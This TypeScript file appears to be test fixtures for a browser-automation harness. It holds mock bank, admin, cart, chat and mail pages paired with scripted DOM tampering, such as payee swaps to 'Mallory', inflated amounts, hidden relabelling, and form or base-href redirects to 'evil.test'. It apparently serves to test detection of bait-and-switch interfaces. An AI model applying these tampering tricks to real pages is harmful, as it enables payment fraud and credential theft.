import type { FreshPage, Row } from './harness.ts';

const click = (on: string): Row => ({ action: 'click', on });
const fill = (on: string, value = 'Rent'): Row => ({ action: 'fill', on, params: { value } });
const type = (on: string, value = 'Rent'): Row => ({ action: 'type', on, params: { value } });
const press = (on: string, key: string, times = 1): Row => ({ action: 'press', on, params: { key, times } });
const check = (on: string): Row => ({ action: 'check', on });
const select = (on: string, value: string): Row => ({ action: 'select', on, params: { value } });

const ONE = ['between', 'at pointerdown', 'at focus'];
const KEY = ['between', 'at focus'];
const WRITE = ['between', 'at focus'];
const NEXT = ['row 1 input', 'row 1 input +250'];
const STYLE = '<style>body{font:14px sans-serif;margin:8px} .grid,.row{display:flex;gap:12px;padding:6px;border-bottom:1px solid #ccc} button,a{padding:4px 8px}</style>';

/** A bank without a form element, as single-page applications have it. */
const bankSpa = (rows: Row[], moments: string[], name: string): FreshPage => ({
  name: `bank without a form, ${name}`,
  html: `${STYLE}<main><h1>New transfer</h1><div class=panel>
    <div class=line><span class=lbl>To</span> <span id=payee class=chip>Ada Lovelace</span></div>
    <div class=line><label>IBAN <input id=iban readonly value="DE02 1203"></label></div>
    <div class=line><label>Amount <input id=amount value=25></label> <select id=cur aria-label=Currency><option>EUR<option>USD<option>BTC</select></div>
    <div class=line><label>Note <input id=note></label></div>
    <div class=line><label>Message <textarea id=msg>Thanks</textarea></label></div>
    <div class=line><label><input type=checkbox id=instant> Instant</label></div>
    <div class=line>Fee <output id=fee>none</output> Balance after <output id=rest>475</output></div>
    <div class=foot><button type=button id=send>Send</button></div></div></main>`,
  rows, about: ['.panel'], own: '#note', decisive: ['click'], moments,
  changes: {
    'visible amount': `$('#amount').value = '2500'`,
    'read-only IBAN': `$('#iban').value = 'XX99 6666'`,
    'payee chip': `$('#payee').firstChild.replaceData(0, 3, 'Mal')`,
    'currency': `$('#cur').selectedIndex = 2`,
    'text area': `$('#msg').value = 'I owe you more'`,
    'unchecked box ticks': `$('#instant').checked = true`,
    'output of the fee': `$('#fee').value = '19 percent'`,
    'bare figure in an output': `$('#rest').value = '-2000'`,
  },
});

const bankForm: FreshPage = {
  name: 'bank form, submit',
  html: `${STYLE}<script>customElements.define('x-money', class extends HTMLElement { static formAssociated = true; constructor() { super(); this.i = this.attachInternals(); } connectedCallback() { this.i.setFormValue(this.getAttribute('v')); } });</script>
    <h2>Pay Ada</h2><form id=f action="/pay" method=post><label>Note <input id=note name=note></label>
    <input type=hidden name=amount id=ha value=10><x-money id=xm name=amount v=10></x-money><x-money id=tip name=tip v=0></x-money>
    <label>Coupon <input id=coupon name=coupon value=SAVE5></label><input type=hidden id=limit name=limit value=on>
    <label>Ways <select multiple id=ways name=ways><option selected value=a>A<option value=b>B</select></label>
    <label><input type=checkbox required id=agree name=agree value=yes data-z=""> I agree</label>
    <input type=hidden id=csrf name=csrf_token value=a1b2c3d4e5f6a7b8><fieldset id=fs disabled><input name=extra value=99></fieldset>
    <input type=file id=file name=doc hidden></form><button id=go form=f name=do value=pay>Pay now</button>`,
  rows: [check('#agree'), click('#go')], about: ['#f', 'h2'], own: '#agree, #csrf', decisive: ['click'],
  moments: ['between', 'at pointerdown', 'row 1 click', 'row 1 change +300'],
  changes: {
    'entry of a custom element named like a native field': `$('#xm').i.setFormValue('9999')`,
    'entry of a custom element alone': `$('#tip').i.setFormValue('50')`,
    'several entries of a custom element': `const d = new FormData(); d.append('tip', '0'); d.append('to', 'XX9'); $('#tip').i.setFormValue(d)`,
    'hidden limit emptied': `$('#limit').value = ''`,
    'visible coupon emptied': `$('#coupon').value = ''`,
    'second way': `$('#ways').options[1].selected = true`,
    'fieldset enabled': `$('#fs').disabled = false`,
    'file put in': `const t = new DataTransfer(); t.items.add(new File(['x'], 'x.txt')); $('#file').files = t.files`,
    'dirname': `$('#coupon').setAttribute('dirname', 'to')`,
    'hidden value equals what the box sends': `$('#ha').value = 'yes'`,
    'button to another form': `document.body.insertAdjacentHTML('beforeend', '<form id=g action=/evil></form>'); $('#go').setAttribute('form', 'g')`,
    'formnovalidate': `$('#go').formNoValidate = true`,
    'base': `document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.test/">')`,
    'object in place of accept-charset': `$('#f').acceptCharset = 'utf-16'`,
    'heading': `$('h2').textContent = 'Pay Mallory'`,
  },
};

const amountForm: FreshPage = {
  name: 'transfer form, fill amount and submit',
  html: `${STYLE}<form id=f action=/pay method=post><label>Amount <input id=note name=shown></label><input type=hidden id=cents name=amount value=""><input type=hidden id=day name=day value="2026-01-02">
    <input type=hidden id=to name=to value=DE1><p id=who>To: Ada</p><p id=sum>Total: 0</p><button id=send>Send</button></form>`,
  rows: [fill('#note', '10.00'), click('#send')], about: ['#f'], own: '#note', decisive: ['click'], moments: ['row 1 input', 'row 1 change +200'],
  changes: {
    'hidden amount without the point': `$('#cents').value = '1000'`,
    'hidden amount with a minus': `$('#cents').value = '-1000'`,
    'another hidden field takes the text': `$('#to').value = '10.00'`,
    'payee': `$('#who').textContent = 'To: Mallory'`,
    'total without a currency': `$('#sum').textContent = 'Total: 9000'`,
    'total as long as the text': `$('#sum').textContent = 'Total: 5'`,
    'second payee after the field': `$('label').insertAdjacentHTML('afterend', '<p>Paid to Mallory</p>')`,
    'words in a button': `$('#who').insertAdjacentHTML('afterend', '<div role=status>Now sent to Mallory as well</div>')`,
  },
};

const userRows = (name: string, wrap: (button: string, n: number) => string, extra: Partial<FreshPage> = {}): FreshPage => ({
  name,
  html: `${STYLE}<h1>Users</h1><label>Reason <input id=note></label><div class=list>${['Ben', 'Ada', 'Cy'].map((who, n) => wrap(who, n)).join('')}</div>`,
  rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE,
  changes: {
    'name': `$('#row .who').textContent = 'Mallory'`,
    'name by replaceData': `$('#row .who').firstChild.replaceData(0, 1, 'E')`,
    'name hidden, another painted over it': `$('#row .who').style.opacity = 0; $('#row .who').insertAdjacentHTML('afterend', '<span style="position:absolute">Mallory</span>')`,
  },
  ...extra,
});
const id = (n: number, name: string) => (n === 1 ? `id=${name}` : '');

const divRows: FreshPage[] = [
  userRows('div rows', (who, n) => `<div class=row ${id(n, 'row')}><div class=who>${who}</div><div class=mail>${who}@x.test</div><div class=no>No 10${n}</div><div class=acts><button ${id(n, 'act')}>Remove</button></div></div>`, {
    changes: {
      'name': `$('#row .who').textContent = 'Mallory'`,
      'figure alone': `$('#row .no').textContent = 'No 107'`,
      'mail': `$('#row .mail').textContent = 'm@x.test'`,
      'closed root over the name': `$('#row .who').attachShadow({ mode: 'closed' }).innerHTML = 'Mallory'`,
      'name in transparent ink with another over it': `$('#row .who').style.color = 'transparent'; $('#row .who').insertAdjacentHTML('afterend', '<b style="position:absolute">Mallory</b>')`,
      'name of size 0': `$('#row .who').style.fontSize = '0'; $('#row .mail').textContent = 'm@x.test'`,
      'name by ::before': `document.head.insertAdjacentHTML('beforeend', '<style>#row .who::before{content:"not "}</style>')`,
      'names of two rows swapped': `const [a, b] = [$('#row .who'), $$('.who')[0]]; [a.textContent, b.textContent] = [b.textContent, a.textContent]`,
      'row drawn in the place of another': `$('.list').style.display = 'flex'; $('.list').style.flexDirection = 'column-reverse'; $('#row .who').textContent = 'Zed'`,
    },
  }),
  userRows('div rows, a hint beside the button', (who, n) => `<div class=row ${id(n, 'row')}><div class=who>${who}</div><div class=mail>${who}@x.test</div><div class=acts><small>seen ${n + 2} days ago</small> <button ${id(n, 'act')}>Remove</button></div></div>`),
  userRows('div rows, an equal hint beside each button', (who, n) => `<div class=row ${id(n, 'row')}><div class=who>${who}</div><div class=acts><small>Active</small> <button ${id(n, 'act')}>Remove</button></div></div>`),
  userRows('one div row, a hint beside the button', (who, n) => n === 1 ? `<div class=row id=row><div class=who>${who}</div><div class=acts><small>Owner of 3 teams</small> <button id=act>Remove</button></div></div>` : ''),
  userRows('div rows, deep wrappers', (who, n) => `<div class=row ${id(n, 'row')}><div class=who>${who}</div><div><div><div><div><div><span><button ${id(n, 'act')}>Remove</button></span></div></div></div></div></div></div>`),
  userRows('one card, deep wrappers', (who, n) => n === 1 ? `<div class=row id=row><div><span class=who>${who}</span></div><div><div><div><div><div><span><button id=act>Remove</button></span></div></div></div></div></div></div>` : ''),
  userRows('div rows, links as buttons', (who, n) => `<div class=row ${id(n, 'row')}><div class=who>${who}</div><div class=role>member</div><div><a href="#" ${id(n, 'act')}>Remove</a></div></div>`),
  userRows('one div row, a link as a button', (who, n) => n === 1 ? `<div class=row id=row><div class=who>${who}</div><div class=role>member</div><div><a href="#" id=act>Remove</a></div></div>` : ''),
  userRows('div rows, the name is a button', (who, n) => `<div class=row ${id(n, 'row')}><button class=who>${who}</button><div><button ${id(n, 'act')}>Remove</button></div></div>`, {
    changes: { name: `$('#row .who').textContent = 'Mallory'`, 'name by replaceData': `$('#row .who').firstChild.data = 'Eda'` },
  }),
  userRows('one div row, the name is a button', (who, n) => n === 1 ? `<div class=row id=row><button class=who>${who}</button><div><button id=act>Remove</button></div></div>` : '', {
    changes: { name: `$('#row .who').textContent = 'Mallory'` },
  }),
  userRows('div rows, the name in a field', (who, n) => `<div class=row ${id(n, 'row')}><input class=who value=${who} aria-label=Name><div><button ${id(n, 'act')}>Remove</button></div></div>`, {
    changes: { name: `$('#row .who').value = 'Mallory'` },
  }),
  userRows('table rows, the name in a field', (who, n) => `<table><tr ${id(n, 'row')}><td><input class=who value=${who} aria-label=Name><td><select class=role aria-label=Role><option>user<option>admin</select><td><textarea class=t aria-label=Text>${who}</textarea><td><div contenteditable class=c>${who}</div><td><button ${id(n, 'act')}>Save</button></table>`, {
    changes: {
      'field': `$('#row .who').value = 'Mallory'`, 'select': `$('#row .role').selectedIndex = 1`,
      'text area': `$('#row .t').value = 'Mallory'`, 'contenteditable': `$('#row .c').textContent = 'Mallory'`,
    },
  }),
  userRows('list items, the name in a closed root', (who, n) => `<ul><li ${id(n, 'row')} class=row><span class=who>${who}</span> <i class=no>7</i> <img src="/${who}.png" alt="" width=20 height=20 class=pic> <button ${id(n, 'act')}>Remove</button></li></ul>`, {
    changes: {
      'closed root': `$('#row .who').attachShadow({ mode: 'closed' }).innerHTML = '<u>Mallory</u>'`,
      'picture': `$('#row .pic').src = '/Mallory.png'`,
      'title': `$('#row .who').title = 'Mallory'`,
      'aria-label': `$('#row .who').setAttribute('aria-label', 'Mallory')`,
      'background': `$('#row .who').style.backgroundImage = 'url(/m.png)'`,
    },
  }),
  userRows('articles with a meter and an output', (who, n) => `<article ${id(n, 'row')}><h3 class=who>${who}</h3><output class=o>${who}</output><meter class=m max=10 value=${n}></meter><svg width=40 height=20><text y=15 class=s>${who}</text></svg><button ${id(n, 'act')}>Ban</button></article>`, {
    changes: {
      'output': `$('#row .o').value = 'Mallory'`, 'meter': `$('#row .m').value = 9`, 'svg': `$('#row .s').textContent = 'Mal'`,
      'generated': `document.head.insertAdjacentHTML('beforeend', '<style>#row h3::after{content:" and all"}</style>')`,
    },
  }),
  {
    name: 'flat css grid', html: `${STYLE}<h1>Team</h1><div id=g style="display:grid;grid-template-columns:200px 100px 100px">
      <div class=n>Ben</div><div>user</div><button>Remove</button><div class=n id=ada>Ada</div><div id=r>user</div><button id=act>Remove</button><div class=n>Cy</div><div>user</div><button>Remove</button></div>`,
    rows: [click('#act')], about: ['#g'], decisive: ['click'], moments: ONE,
    changes: {
      'names swapped': `const [a, b] = $$('.n'); [a.textContent, b.textContent] = [b.textContent, a.textContent]`,
      'names swapped as nodes': `const [a, b] = $$('.n'); const m = document.createComment(''); a.replaceWith(m); b.replaceWith(a); m.replaceWith(b)`,
      'order by css': `$$('.n').forEach((e, i) => { e.style.gridRow = [2, 1, 3][i]; e.style.gridColumn = 1 })`,
      'names by transform': `const [a, b] = $$('.n'); const d = b.getBoundingClientRect().top - a.getBoundingClientRect().top; a.style.transform = 'translateY(' + d + 'px)'; b.style.transform = 'translateY(-' + d + 'px)'`,
      'name': `$('#ada').textContent = 'Mallory'`,
    },
  },
];

const textSwaps: FreshPage = {
  name: 'dialog, from and to', html: `${STYLE}<div role=dialog id=d aria-label=Transfer><h2>Confirm</h2><div>From <b id=a>Savings</b></div><div>To <b id=b>Mallory</b></div><p>Amount <b id=n>20</b> of <b id=m>9000</b></p><button id=act>Confirm</button></div>`,
  rows: [click('#act')], about: ['#d'], decisive: ['click'], moments: [...ONE, 'at mouseup', 'at pointerover'],
  changes: {
    'from and to exchanged': `[$('#a').textContent, $('#b').textContent] = [$('#b').textContent, $('#a').textContent]`,
    'amounts exchanged': `[$('#n').textContent, $('#m').textContent] = [$('#m').textContent, $('#n').textContent]`,
    'exchanged by order': `$('#d').style.display = 'flex'; $('#d').children[1].style.order = 5`,
  },
};
const textSwapsNext: FreshPage = {
  ...textSwaps, name: 'dialog, from and to, after a reason',
  html: textSwaps.html.replace('<button', '<label>Reason <input id=note></label><button'), own: '#note',
  rows: [fill('#note'), click('#act')], moments: NEXT,
};

const modal = (footer: string, name: string, more = ''): FreshPage => ({
  name: `div modal, ${name}`, html: `${STYLE}<p>Files</p><div class=modal id=m style="position:fixed;top:40px;left:40px;border:1px solid;background:#fff;padding:8px"><div class=head><div class=title id=t>Delete file report-1.txt?</div></div><div class=body id=b>It cannot be undone.${more}</div><div class=foot>${footer}</div></div>`,
  rows: [click('#act')], about: ['#m'], decisive: ['click'], moments: ONE,
  changes: { 'title': `$('#t').textContent = 'Delete production database?'`, 'figure of the title': `$('#t').textContent = 'Delete file report-9.txt?'`, 'body': `$('#b').textContent = 'All 900 users are deleted as well.'` },
});
const modals: FreshPage[] = [
  modal('<button>Cancel</button> <button id=act>Delete</button>', 'plain'),
  modal('<small>Press Esc to cancel</small> <button>Cancel</button> <button id=act>Delete</button>', 'hint in the footer'),
  modal('<label><input type=checkbox> Do not ask again</label> <button id=act>Delete</button>', 'box in the footer'),
  modal('<a href="#">Cancel</a> <a href="#" role=button id=act>Delete</a>', 'role button'),
  modal('<a href="#">Cancel</a> <a href="#" id=act>Delete</a>', 'links'),
  modal('<div><div><button id=act>Delete</button></div></div>', 'long body', ` ${'This is what the terms say about it. '.repeat(20)}`),
];

const cards: FreshPage = {
  name: 'cards with long texts', html: `${STYLE}<div class=list>${['Free', 'Gold', 'Team'].map((plan, n) => `<div class=card ${id(n, 'row')}><div class=title>${plan} plan</div><div class=price>${n * 9} a month</div><p>${'It has many features that you will like. '.repeat(18)}</p><div class=cta><button ${id(n, 'act')}>Choose</button></div></div>`).join('')}</div>`,
  rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE,
  changes: { 'title': `$('#row .title').textContent = 'Platinum plan'`, 'price': `$('#row .price').textContent = '999 a month'`, 'price with a currency': `$('#row .price').textContent = '9 € a day'` },
};

const describedDialog: FreshPage = {
  name: 'dialog described by its question', html: `${STYLE}<div role=dialog id=d aria-labelledby=t><h2 id=t>Refund</h2><p id=q>Refund order 1043 of Ada?</p><p id=s>0 selected</p><label><input type=checkbox id=note aria-describedby=q> Notify the customer</label><button id=act>Refund</button></div>`,
  rows: [check('#note'), click('#act')], about: ['#q', '#t'], own: '#note', decisive: ['click'], moments: ['row 1 click', 'row 1 change +200'],
  changes: { 'question': `$('#q').textContent = 'Refund all orders of this year?'` },
};
const countedDialog: FreshPage = {
  name: 'row number after a tick', html: `${STYLE}<table><tr id=row><td id=q>Order 1043</td><td><label><input type=checkbox id=note> Notify</label></td><td><button id=act>Refund</button></td></tr><tr><td>Order 1044</td><td></td><td><button>Refund</button></td></tr></table>`,
  rows: [check('#note'), click('#act')], about: ['#row'], own: '#note', decisive: ['click'], moments: ['row 1 click', 'row 1 change +200'],
  changes: { 'next order': `$('#q').textContent = 'Order 1044'`, 'order before': `$('#q').textContent = 'Order 1042'`, 'two further': `$('#q').textContent = 'Order 1045'` },
};
const lengthDialog: FreshPage = {
  name: 'count like a length', html: `${STYLE}<div role=dialog id=d aria-label=Delete><p id=q>Delete 1 files?</p><label>Type the reason <input id=note></label><button id=act>Delete</button></div>`,
  rows: [fill('#note', 'Old and unused files'), click('#act')], about: ['#q'], own: '#note', decisive: ['click'], moments: NEXT,
  changes: { 'as many as the text is long': `$('#q').textContent = 'Delete 20 files?'`, 'other number': `$('#q').textContent = 'Delete 21 files?'`, 'table': `$('#q').textContent = 'Delete 1 tables?'`, 'repeats the text': `$('#q').textContent = 'Old and unused files'` },
};

const chat = (rows: Row[], name: string, moments: string[]): FreshPage => ({
  name: `chat, ${name}`, html: `${STYLE}<div class=app><div class=side><div class=c>Ada</div><div class=c>Bob</div></div><div class=main><header><h2 id=h>Ada Lovelace</h2><span id=st>Private</span></header><div class=log><p>Hi</p><p>Hello</p></div><div class=box><input id=note aria-label=Message placeholder="Write a message"></div></div></div>
    <script>note.addEventListener('keydown', e => { if (e.key === 'Enter') window.did = h.textContent })</script>`,
  rows, about: ['header'], own: '#note', decisive: ['keydown'], moments,
  changes: { 'who it is for': `$('#h').textContent = 'Everyone at Acme'`, 'channel': `$('#st').textContent = 'Public'` },
});
const chatMark: FreshPage = { ...chat([fill('#note', 'my salary is low'), press('#note', 'Enter')], 'div heading, fill and Enter', [...NEXT]), html: chat([], '', []).html.replace('<h2 id=h>Ada Lovelace</h2>', '<div id=h>Ada Lovelace</div>') };

const mail = (rows: Row[], name: string, moments: string[], decisive: string[]): FreshPage => ({
  name: `mail, ${name}`, html: `${STYLE}<div class=compose><div class=line>To <span class=chips id=to><span class=chip>ada@x.test</span></span></div><div class=line><input id=subj aria-label=Subject value="Offer"></div><div id=body contenteditable aria-label="Message body" style="min-height:60px;border:1px solid">Dear Ada</div><div class=att id=att>offer.pdf</div><div class=bar><div role=button tabindex=0 id=send>Send</div> <div role=button tabindex=0>Discard</div></div></div>`,
  rows, about: ['#to', '#att', '#subj'], own: '#body', decisive, moments,
  changes: {
    'recipient': `$('.chip').textContent = 'all@press.test'`, 'added recipient': `$('#to').insertAdjacentHTML('beforeend', '<span class=chip>boss@x.test</span>')`,
    'subject': `$('#subj').value = 'I quit'`, 'attachment': `$('#att').textContent = 'salaries.xlsx'`,
  },
});

const matrix: FreshPage = {
  name: 'matrix of rights', html: `${STYLE}<h2 id=h>Project Blue</h2><table id=t><thead><tr><th>User<th id=c1>Read<th id=c2>Admin</tr></thead><tbody><tr id=row><td class=who>Ada<td><input type=checkbox id=act><td><input type=checkbox></tr><tr><td>Ben<td><input type=checkbox><td><input type=checkbox></tr></tbody></table>`,
  rows: [check('#act')], about: ['#row', '#t thead', '#h'], own: '#act', decisive: ['click'], moments: ONE,
  changes: {
    'column': `$('#c1').textContent = 'Owner'`, 'columns exchanged': `[$('#c1').textContent, $('#c2').textContent] = ['Admin', 'Read']`, 'columns moved': `$('#c2').after($('#c1'))`,
    'row': `$('#row .who').textContent = 'Mallory'`, 'heading': `$('#h').textContent = 'Project Red'`,
  },
};
const matrixGrid: FreshPage = {
  name: 'matrix of switches in divs', html: `${STYLE}<div class=row id=hd><div>User</div><div id=c1>Read</div><div id=c2>Admin</div></div>${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><div role=switch aria-checked=false tabindex=0 ${id(n, 'act')} onclick="this.ariaChecked = true">off</div></div><div><div role=switch aria-checked=false tabindex=0>off</div></div></div>`).join('')}`,
  rows: [check('#act')], about: ['#row', '#hd'], own: '#act', decisive: ['click'], moments: ONE,
  changes: { 'column': `$('#c1').textContent = 'Owner'`, 'name': `$('#row .who').textContent = 'Mallory'` },
};

const marks: FreshPage = {
  name: 'marks of frameworks', html: `${STYLE}<div class=row id=row data-order=1 onclick="void 'pay ada'"><div>Ada</div><button id=act data-method=patch data-url="/users/1" data-payee=ada data-action="click->user#rename" data-confirm="Rename?" data-target="#m1" data-to=ada data-name=Ada data-params='{"id":1}' hx-post="/users/1/rename" hx-vals='{"id":1}' hx-target="#row" wire:click="rename(1)" phx-click=rename phx-value-id=1 aria-describedby=note1 title="Rename">Go</button></div><p id=note1>Renames the user</p>`,
  rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ['between', 'at pointerdown'],
  changes: Object.fromEntries([
    ['data-method', 'delete'], ['data-url', '/users/9'], ['data-payee', 'mallory'], ['data-action', 'click->user#destroy'], ['data-confirm', 'Delete?'], ['data-target', '#m9'], ['data-to', 'mallory'], ['data-name', 'M'], ['data-params', '{"id":9}'],
    ['hx-post', '/users/1/delete'], ['hx-vals', '{"id":9}'], ['wire:click', 'destroy(1)'], ['phx-click', 'destroy'], ['phx-value-id', '9'], ['title', 'Delete'], ['onclick', 'destroy()'],
  ].map(([name, value]) => [name, `$('#act').setAttribute('${name}', '${value}')`]).concat([
    ['row handler', `$('#row').setAttribute('onclick', "void 'pay mallory'")`], ['row data-order', `$('#row').dataset.order = '9'`], ['description', `$('#note1').textContent = 'Deletes the user'`],
    ['description moved', `$('#act').setAttribute('aria-describedby', 'none')`],
  ]) as [string, string][]),
};

const icons: FreshPage = {
  name: 'icon buttons', html: `${STYLE}<style>.i{width:24px;height:24px;display:inline-block}</style><div class=bar id=bar><button id=act title="Archive"><i class=i style="background-image:url(/archive.png)"></i></button> <button id=b2><img src="/archive.png" alt="Archive" width=20 height=20></button> <button id=b3 aria-labelledby=lb><svg width=20 height=20><title id=st>Archive</title><path d="M0 0h20v20z"/></svg></button><span id=lb hidden>Archive</span></div>`,
  rows: [click('#act')], about: ['#bar'], decisive: ['click'], moments: [...ONE, 'at mouseover'],
  changes: { 'title': `$('#act').title = 'Delete'`, 'background': `$('#act i').style.backgroundImage = 'url(/delete.png)'` },
};
const icons2: FreshPage = { ...icons, name: 'icon button with a picture', rows: [click('#b2')], moments: ONE, changes: { 'alt': `$('#b2 img').alt = 'Delete'`, 'src': `$('#b2 img').src = '/delete.png'` } };
const icons3: FreshPage = { ...icons, name: 'icon button by labelledby', rows: [click('#b3')], moments: ONE, about: ['#bar', '#lb'], changes: { 'label text': `$('#lb').hidden = false; $('#lb').textContent = 'Delete'`, 'other label': `$('#bar').insertAdjacentHTML('beforeend', '<span id=lc>Delete</span>'); $('#b3').setAttribute('aria-labelledby', 'lc')` } };
const imageButton: FreshPage = {
  name: 'image button', html: `${STYLE}<form id=f action=/a><input type=hidden name=x value=1><input type=image id=act src="/pay10.png" alt="Pay" width=60 height=20></form>`, rows: [click('#act')], about: ['#f'], decisive: ['click'], moments: ONE,
  changes: { 'picture': `$('#act').src = '/pay999.png'`, 'alt': `$('#act').alt = 'Pay all'`, 'hidden': `$('[name=x]').value = 9` },
};

const DEFINE = `<script>customElements.define('p-card', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: this.getAttribute('mode') || 'open' }).innerHTML = '<div class=w style="border:1px solid;padding:6px"><slot name=t></slot> <span class=price>' + this.getAttribute('price') + '</span> <p-buy></p-buy></div>'; } });
  customElements.define('p-buy', class extends HTMLElement { constructor() { super(); this.attachShadow({ mode: 'open' }).innerHTML = '<button class=buy>Buy</button>'; } });</script>`;
const shadowCards: FreshPage = {
  name: 'nested custom elements', html: `${STYLE}${DEFINE}<p-card price="9 €"><b slot=t>Cable</b></p-card><p-card id=row price="20 €"><b slot=t id=who>Phone</b></p-card><p-card price="900 €"><b slot=t>Car</b></p-card><script>document.querySelector('#row').shadowRoot.querySelector('p-buy').shadowRoot.querySelector('.buy').id = 'act'</script>`,
  rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE,
  changes: {
    'slotted title': `$('#who').textContent = 'House'`, 'price': `$('#row').shadowRoot.querySelector('.price').textContent = '999 €'`,
    'slots exchanged': `$('#who').slot = ''; $('#row').insertAdjacentHTML('beforeend', '<b slot=t>House</b>')`,
    'late closed root of the title': `const s = document.createElement('span'); s.textContent = 'Phone'; $('#who').replaceChildren(s); s.attachShadow({ mode: 'closed' }).innerHTML = 'House'`,
  },
};
const lateRoot: FreshPage = {
  name: 'late closed root on the words of a button', html: `${STYLE}<button id=act><span id=s>Pay 10 €</span></button>`, rows: [click('#act')], about: ['#act'], decisive: ['click'], moments: [...ONE, 'at mouseup'],
  changes: {
    'another figure': `$('#s').attachShadow({ mode: 'closed' }).innerHTML = 'Pay 9999 €'`, 'other words': `$('#s').attachShadow({ mode: 'closed' }).innerHTML = 'Pay all'`,
    'generated figure': `document.head.insertAdjacentHTML('beforeend', '<style>#s::after{content:"00"}</style>')`,
    'generated figure of the button': `document.head.insertAdjacentHTML('beforeend', '<style>#act::after{content:"00"}</style>')`,
  },
};
const lateRootOpen: FreshPage = { ...lateRoot, name: 'late open root on the words of a button', changes: { 'another figure': `$('#s').attachShadow({ mode: 'open' }).innerHTML = 'Pay 9999 €'` } };

const cart = (rows: Row[], name: string, moments: string[], own = '#note'): FreshPage => ({
  name: `cart, ${name}`, html: `${STYLE}<div class=cart><div class=row><span id=item>Phone</span> <input id=qty type=number value=1 aria-label=Quantity> <span id=unit>200</span></div><div class=row><label><input type=radio name=ship value=std checked> Standard</label> <label><input type=radio name=ship id=exp value=exp> Express</label></div>
    <div class=row><input id=note aria-label=Coupon></div><div class=sum>Total <b id=total>200 EUR</b></div><div class=row>Ship to <span id=addr>Ada, Main Street 1</span></div><div class=foot><span>By ordering you accept the terms.</span> <button id=act type=button>Place order</button></div></div>`,
  rows, about: ['.cart'], own, decisive: ['click'], moments,
  changes: {
    'total': `$('#total').textContent = '2000 EUR'`, 'quantity': `$('#qty').value = 10`, 'shipping': `$('#exp').checked = true`, 'address': `$('#addr').textContent = 'Mallory, Side Street 9'`, 'item': `$('#item').textContent = 'Car'`,
  },
});

const stepper: FreshPage = {
  name: 'arrow keys', html: `${STYLE}<div id=row class=row><span id=who>Ada</span><label><span id=lb>Days</span> <input type=number id=act value=1></label></div>`, rows: [press('#act', 'ArrowUp', 3)], about: ['#row'], own: '#act', decisive: ['keydown'], moments: ['between', 'at input', 'at keyup'], isLong: true,
  changes: { 'label': `$('#lb').textContent = 'Euros'`, 'row': `$('#who').textContent = 'Mallory'`, 'name': `$('#act').name = 'amount'` },
};

const fields = (rows: Row[], name: string, moments: string[], html: string, changes: Record<string, string>, isLong?: true): FreshPage => ({ name, html: STYLE + html, rows, about: ['#row'], own: '.own', decisive: ['input'], moments, changes, ...(isLong ? { isLong } : {}) });
const FIELD_ROWS = `<h1>Salaries</h1>${['Ben', 'Ada', 'Cy'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><input class=own ${id(n, 'act')} aria-label=Salary></div></div>`).join('')}`;
const FIELD_CHANGES = { 'name': `$('#row .who').textContent = 'Mallory'` };
const lone = (attributes: string) => `<div id=row><h2 id=h>Sign up for news</h2><p id=p>We send one mail a week.</p><label id=l for=act>Name</label> <input class=own id=act ${attributes}></div>`;
const LONE_CHANGES = {
  'placeholder': `$('#act').placeholder = 'Your bank password'`, 'autocomplete': `$('#act').autocomplete = 'current-password'`, 'type': `$('#act').type = 'password'`, 'name': `$('#act').name = 'pin'`, 'label': `$('#l').textContent = 'PIN of your card'`,
  'heading': `$('#h').textContent = 'Sign in to your bank'`, 'text': `$('#p').textContent = 'Enter the PIN of your card.'`, 'label moved away': `$('#l').htmlFor = 'x'; $('#act').insertAdjacentHTML('beforebegin', '<label for=act>PIN</label>')`,
  'description': `$('#act').setAttribute('aria-describedby', 'p'); $('#p').textContent = 'Your PIN'`, 'form': `document.body.insertAdjacentHTML('beforeend', '<form id=g action="https://evil.test/"></form>'); $('#act').setAttribute('form', 'g')`,
};
const editorHtml = `<div id=row class=row><div><b id=who>Comment on issue 12</b><div class=own id=act contenteditable aria-label=Comment style="min-height:40px;width:300px;border:1px solid"></div></div></div>`;

const customSelect = (attributes: string, row: string): string => `${row}<script>
  const open = () => { list.hidden = false; act.ariaExpanded = 'true' }; act.addEventListener('click', open);
  for (const o of list.children) o.addEventListener('click', () => { act.textContent = o.textContent; list.hidden = true; act.ariaExpanded = 'false' })</script>`;
const roleSelect: FreshPage = {
  name: 'custom select in a row', html: STYLE + customSelect('', `<table><tr id=row><td id=who>Ada</td><td><div id=act role=combobox tabindex=0 aria-haspopup=listbox aria-expanded=false aria-label=Role aria-controls=list>user</div><div id=list role=listbox hidden><div role=option data-value=1 id=o1>user</div><div role=option data-value=2 id=o2>editor</div><div role=option data-value=3 id=o3>owner</div></div></td></tr><tr><td>Ben</td><td>x</td></tr></table>`),
  rows: [select('#act', 'editor')], about: ['#who'], own: '#act', decisive: ['click'], moments: ['between', 'at pointerdown', 'at focus', 'at click'], isLong: true,
  changes: { 'row': `$('#who').textContent = 'Mallory'`, 'label': `@between,at pointerdown,at click@$('#act').setAttribute('aria-label', 'Team'); $('#who').title = 'Team'` },
};

const nativeSelect: FreshPage = {
  name: 'native select in a div row', html: `${STYLE}${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><select class=own ${id(n, 'act')} aria-label=Role><option value=u>user<option value=e>editor<option value=o>owner</select></div></div>`).join('')}`,
  rows: [select('#act', 'editor')], about: ['#row'], own: '.own', decisive: ['input'], moments: WRITE,
  changes: { 'row': `$('#row .who').textContent = 'Mallory'`, 'name': `$('#act').name = 'owner'`, 'value of the option': `$('#act').options[1].value = 'o'; $('#act').dataset.x = 1` },
};

const kanban = (mode: string): FreshPage => ({
  name: `kanban, ${mode}`, html: `${STYLE}<style>.col{position:absolute;top:60px;width:150px}.zone{height:200px;border:1px solid}.card{border:1px solid;margin:4px;padding:8px;cursor:grab}</style>
    <div class=col style="left:10px"><h3>To do</h3><div class=zone><div class=card id=act ${mode === 'data' ? 'draggable=true' : ''}><b id=who>Fix login</b><small id=no>Task 12</small></div></div></div>
    <div class=col style="left:200px" id=done><h3 id=hd>Done</h3><div class=zone id=zone aria-label=Column role=list tabindex=0><span id=in>Sprint 12</span></div></div>
